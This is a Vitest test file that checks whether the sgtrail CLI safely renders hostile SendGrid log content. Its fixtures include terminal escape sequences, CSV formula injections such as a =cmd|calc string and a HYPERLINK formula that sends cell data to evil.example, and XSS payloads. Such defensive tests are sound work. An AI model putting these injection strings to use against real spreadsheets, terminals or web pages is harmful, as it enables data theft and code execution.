import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeStyle } from '../../src/render/style.js';
import { VERDICTS } from '../../src/verdict/verdicts.js';
import { BIN, ROOT } from '../helpers/cli.js';
import { ENV, sgtrailInProcess, sgtrailRaw, STACK_TRACE, tempDir } from '../helpers/cli.js';

/**
 * Issue 7, part 3: whatever bytes a log holds, no control character or escape sequence from it
 * reaches a terminal (only sgtrail's own colours when colour is on), CSV formula starts are
 * defused, HTML is escaped, and JSON output stays valid JSON (and valid UTF-8).
 */

/** Every kind of terminal trouble, as a JSON string carries it (escaped, as JSON.stringify writes it). */
const TROUBLE: Record<string, string> = {
  csi: '\u001b[31mRED\u001b[0m\u001b[2J\u001b[H',
  osc8: '\u001b]8;;https://evil.example/\u0007click me\u001b]8;;\u0007',
  title: '\u001b]0;pwned\u0007\u001b]2;pwned too\u001b\\',
  c1: '\u009b31m\u0085\u0090dcs\u009c\u009d\u0080\u009f',
  cr: 'hidden\roverwritten',
  backspace: 'abc\b\b\bxyz',
  bel: 'ding\u0007',
  nul: 'nul\u0000here',
  del: 'del\u007f',
  bidi: 'abc\u202edcba\u202c \u202a\u202b\u202d \u2066iso\u2069\u2067\u2068 \u061c\u200e\u200f',
  c0: Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join(''),
  lone: 'half \ud800 pair \udfff',
  lf: 'two\nlines',
};
const BAD = Object.values(TROUBLE).join(' ');

/** Control characters and bidi formatting a terminal would act on (tab and newline are sgtrail's own). */
// eslint-disable-next-line no-control-regex
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;
const SGR = /\u001b\[[0-9;]*m/g;

/** The SGR sequences sgtrail's own styles produce with colour on: the only escapes allowed. */
const OWN_SGR: Set<string> = (() => {
  const s = makeStyle(true);
  const samples = [
    ...VERDICTS.map((v) => s.verdict(v)),
    ...['processed', 'deferred', 'delivered', 'bounce', 'dropped', 'open', 'click', 'spamreport', 'unsubscribe', 'other'].map((e) => s.event(e)),
    s.dim('x'),
    s.bold('x'),
    s.chalk.gray('x'),
    s.chalk.bold('x'),
  ];
  return new Set(samples.flatMap((t) => t.match(SGR) ?? []));
})();

function assertTerminalSafe(out: string, color: boolean, what: string): void {
  const escapes = out.match(SGR) ?? [];
  const rest = out.replace(SGR, '');
  const bad = UNSAFE.exec(rest);
  expect(bad === null ? null : { what, char: bad[0].codePointAt(0)?.toString(16), near: JSON.stringify(rest.slice(Math.max(0, bad.index - 30), bad.index + 10)) }).toBeNull();
  if (color) {
    expect(escapes.length, `${what}: colour was forced`).toBeGreaterThan(0);
    for (const e of new Set(escapes)) expect({ what, escape: JSON.stringify(e), own: OWN_SGR.has(e) }).toEqual({ what, escape: JSON.stringify(e), own: true });
  } else {
    expect({ what, escapes }).toEqual({ what, escapes: [] });
  }
  // The log text is still there, made visible.
  expect(out, what).toMatch(/\\x1b|\\u202e/);
}

const tmp = tempDir('output-safety');
let log = '';
/** A file name is echoed too (in sources and the skipped summary). */
let oddLog = '';
afterAll(() => tmp.remove());

beforeAll(() => {
  const t0 = 1_795_000_000;
  const id = (n: number) => `Hostile${n}AAAAAAAAAAAAAAA`.slice(0, 22);
  const events: Record<string, unknown>[] = [];
  const add = (n: number, email: string, extra: Record<string, unknown>[]) => {
    const base = { email, sg_message_id: `${id(n)}.filterdrecv-${BAD}-${n}.0`, 'smtp-id': `<${id(n)}@ismtpd-${BAD}>` };
    extra.forEach((e, i) => events.push({ ...base, timestamp: t0 + n * 1000 + i * 60, sg_event_id: `${n}-${i}-${BAD}`, ...e }));
  };
  // Delivered, then a bounce naming a forward target: every human output shows this one.
  add(1, `victim${TROUBLE['csi']}@ex${TROUBLE['bidi']}.example`, [
    { event: 'processed', category: [BAD, 'ok'] },
    { event: 'delivered', response: `250 ok ${BAD}`, ip: `1.2.3.4${BAD}` },
    { event: 'bounce', type: `blocked${TROUBLE['title']}`, status: `5.2.2${TROUBLE['cr']}`, reason: `550 5.2.2 <forwarded@other.example>: mailbox full ${BAD}`, bounce_classification: `Technical${BAD}` },
    { event: `open${TROUBLE['osc8']}`, sg_machine_open: false },
    { event: 'click', url: `https://x.example/${BAD}` },
  ]);
  add(2, `deferred${TROUBLE['c1']}@example.com`, [
    { event: 'deferred', response: `451 try later ${BAD}`, attempt: `1${TROUBLE['backspace']}` },
    { event: 'delivered', response: '250 ok' },
  ]);
  add(3, `dropped@example.com${TROUBLE['nul']}`, [{ event: 'dropped', reason: `Bounced Address ${BAD}` }]);
  add(4, `=cmd|' /C calc'!A0@example.com`, [
    { event: 'processed' },
    { event: 'bounce', type: 'bounce', status: '+5.0.0', reason: `=HYPERLINK("http://evil.example/?x="&A1,"click") ${BAD}` },
  ]);
  add(5, `<script>alert(1)</script>@example.com`, [
    { event: 'delivered' },
    { event: 'bounce', type: 'bounce', reason: `550 "><img src=x onerror=alert(2)> ${BAD}` },
  ]);
  add(6, `-dash${TROUBLE['lone']}@example.com`, [{ event: 'bounce', type: 'blocked', reason: `@SUM(1+1) ${TROUBLE['del']}`, status: '\t=1+1' }]);
  const text = events.map((e) => JSON.stringify(e)).join('\n');
  log = tmp.file('hostile.ndjson');
  // Raw bytes as well: invalid UTF-8 inside a string, and a junk line with a raw escape sequence.
  const raw = Buffer.concat([
    Buffer.from(`${text}\n`),
    Buffer.from('{"email":"rawbytes@example.com","event":"bounce","timestamp":1795009000,"reason":"550 '),
    Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80]),
    Buffer.from('"}\n'),
    Buffer.from('server text with a raw \u001b[2J escape \u001b]0;title\u0007 and \r carriage return\n'),
  ]);
  writeFileSync(log, raw);
  oddLog = tmp.file(`odd\u001b[31mname\u202e.log`);
  writeFileSync(oddLog, raw);
});

/** util-linux script(1) runs a command with a pty as its terminal. */
const HAS_SCRIPT = spawnSync('script', ['--version']).status === 0;

const HUMAN: [string, string[]][] = [
  ['timeline (by ID)', ['timeline', '--message', 'Hostile1']],
  ['timeline (by address)', ['timeline', '--email', 'deferred\u009b31m\u0085\u0090dcs\u009c\u009d\u0080\u009f@example.com']],
  ['messages (piped: tab-separated)', ['messages']],
  ['report (piped: plain)', ['report']],
  ['report --format markdown', ['report', '--format', 'markdown']],
];

describe('human output never passes terminal controls through', () => {
  // In-process (the renderers are what is tested); the terminal test below goes through the bin.
  it.each(HUMAN)('%s', async (name, args) => {
    // Plain, and with colour forced (reading the file with the hostile name: it is echoed too).
    for (const [color, file] of [[false, log], [true, oddLog]] as const) {
      const r = await sgtrailInProcess([...args, ...(color ? ['--color'] : []), file]);
      expect(r.status, r.stderr).toBe(0);
      const out = r.stdout.toString('utf8');
      // Colour applies where sgtrail styles text when piped (the timeline); elsewhere it stays plain.
      const styled = color && args[0] === 'timeline';
      assertTerminalSafe(out, styled, `${name}${color ? ' --color' : ''}`);
      // stderr too: the skipped summary names the file and location.
      if (args[0] !== 'timeline') expect(r.stderr).toContain('skipped');
      expect(UNSAFE.exec(r.stderr)?.[0]).toBeUndefined();
    }
  });

  it('explain, from arguments and from stdin lines', async () => {
    // (an argument cannot hold a NUL byte)
    const fromArgs = await sgtrailInProcess(['explain', `550 5.1.1 <a${TROUBLE['csi']}@example.com>: ${BAD.replace(/\0/g, '')}`, '--recipient', 'b@example.com']);
    expect(fromArgs.status).toBe(0);
    assertTerminalSafe(fromArgs.stdout.toString(), false, 'explain args');
    const lines = Object.values(TROUBLE).map((t) => `451 4.2.1 <fwd@other.example> ${t.replace(/[\r\n]/g, ' ')} mailbox full`);
    const fromStdin = await sgtrailInProcess(['explain'], { input: Buffer.concat([Buffer.from(lines.join('\n')), Buffer.from([0x0a, 0xff, 0x1b, 0x5b, 0x32, 0x4a, 0x0a])]) });
    expect(fromStdin.status).toBe(0);
    assertTerminalSafe(fromStdin.stdout.toString(), false, 'explain stdin');
  });

  it.skipIf(!HAS_SCRIPT)('on a terminal: the messages table and the text report, with colour forced (stdout a pty via script(1))', () => {
    for (const args of [['messages'], ['report'], ['timeline', '--message', 'Hostile1']]) {
      for (const color of args[0] === 'messages' ? [false, true] : [true]) {
        const cmd = [process.execPath, BIN, ...args, ...(color ? ['--color'] : []), log].map((a) => `'${a.replace(/'/g, `'\\''`)}'`).join(' ');
        // -onlcr: the pty would turn every \n into \r\n, and a CR is one of the things looked for.
        const r = spawnSync('script', ['-qec', `stty -onlcr cols 200; ${cmd}`, '/dev/null'], { cwd: ROOT, env: ENV, encoding: 'utf8' });
        expect(r.status, r.stdout).toBe(0);
        expect(r.stdout).not.toMatch(STACK_TRACE);
        if (args[0] !== 'timeline') expect(r.stdout).toMatch(/[┌─│]/); // a cli-table3 table: stdout was a terminal
        assertTerminalSafe(r.stdout, color, `${args.join(' ')} on a tty${color ? ' --color' : ''}`);
      }
    }
  });
});

describe('machine output', () => {
  it('CSV: every cell that a spreadsheet would run is defused, and the rows still parse', async () => {
    const r = await sgtrailInProcess(['report', '--format', 'csv', log]);
    expect(r.status).toBe(0);
    const rows = parse(r.stdout.toString('utf8'), { record_delimiter: '\r\n' }) as string[][];
    expect(rows.length).toBeGreaterThan(4);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.flat()).toContain(`'=cmd|' /C calc'!A0@example.com`);
    expect(rows.flat().some((c) => c.startsWith(`'=HYPERLINK(`))).toBe(true);
  });

  it('HTML: log text is escaped, controls are made visible, nothing runs', async () => {
    const r = await sgtrailInProcess(['report', '--format', 'html', log]);
    expect(r.status).toBe(0);
    const page = r.stdout.toString('utf8');
    // Log text is escaped, so `<` from it is `&lt;`: any tag seen here would be a real one.
    expect(page).not.toMatch(/<script|<img|<[^>]*\sonerror=/i);
    expect(page).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(UNSAFE.exec(page)?.[0]).toBeUndefined();
    expect(page).not.toMatch(/\u001b/);
  });

  it.each([
    ['events', ['events']],
    ['messages --json', ['messages', '--json']],
    ['timeline --json', ['timeline', '--json', '--message', 'Hostile']],
    ['explain --json', ['explain', '--json', `550 ${BAD.replace(/\0/g, '')}`, TROUBLE['lone'] as string]],
  ])('%s: one valid JSON object per line, valid UTF-8', async (_name, args) => {
    // events through the bin, the others in-process
    const argv = args[0] === 'explain' ? args : [...args, log];
    const r = args[0] === 'events' ? sgtrailRaw(argv) : await sgtrailInProcess(argv);
    expect(r.status).toBe(0);
    expect(Buffer.from(r.stdout.toString('utf8'), 'utf8').equals(r.stdout)).toBe(true);
    const lines = r.stdout.toString('utf8').split('\n');
    expect(lines.pop()).toBe('');
    expect(lines.length).toBeGreaterThan(0);
    for (const l of lines) expect(() => JSON.parse(l)).not.toThrow();
    // No raw C0 control is written: JSON escapes them. (C1 and bidi characters are legal raw in
    // JSON and are passed through, as jq does; --json is for programs, not for terminals.)
    // eslint-disable-next-line no-control-regex
    expect(/[\u0000-\u0009\u000b-\u001f]/.exec(r.stdout.toString('utf8'))?.[0]).toBeUndefined();
  });

  it('report --format json: one valid JSON document whatever the input bytes', async () => {
    const r = await sgtrailInProcess(['report', '--format', 'json', log]);
    expect(r.status).toBe(0);
    expect(Buffer.from(r.stdout.toString('utf8'), 'utf8').equals(r.stdout)).toBe(true);
    const rep = JSON.parse(r.stdout.toString('utf8')) as { messages: number };
    expect(rep.messages).toBeGreaterThan(5);
  });

  it('a lone surrogate escape (\\ud800) in the log comes out escaped, not as broken UTF-8', () => {
    const r = sgtrailRaw(['events'], { input: '{"email":"a@example.com","event":"open","x":"\\ud800 \\udc00x \\u0000"}\n' });
    expect(r.stdout.toString('utf8')).toContain('"x":"\\ud800 \\udc00x \\u0000"');
    expect(JSON.parse(r.stdout.toString('utf8'))['x']).toBe('\ud800 \udc00x \u0000');
  });
});
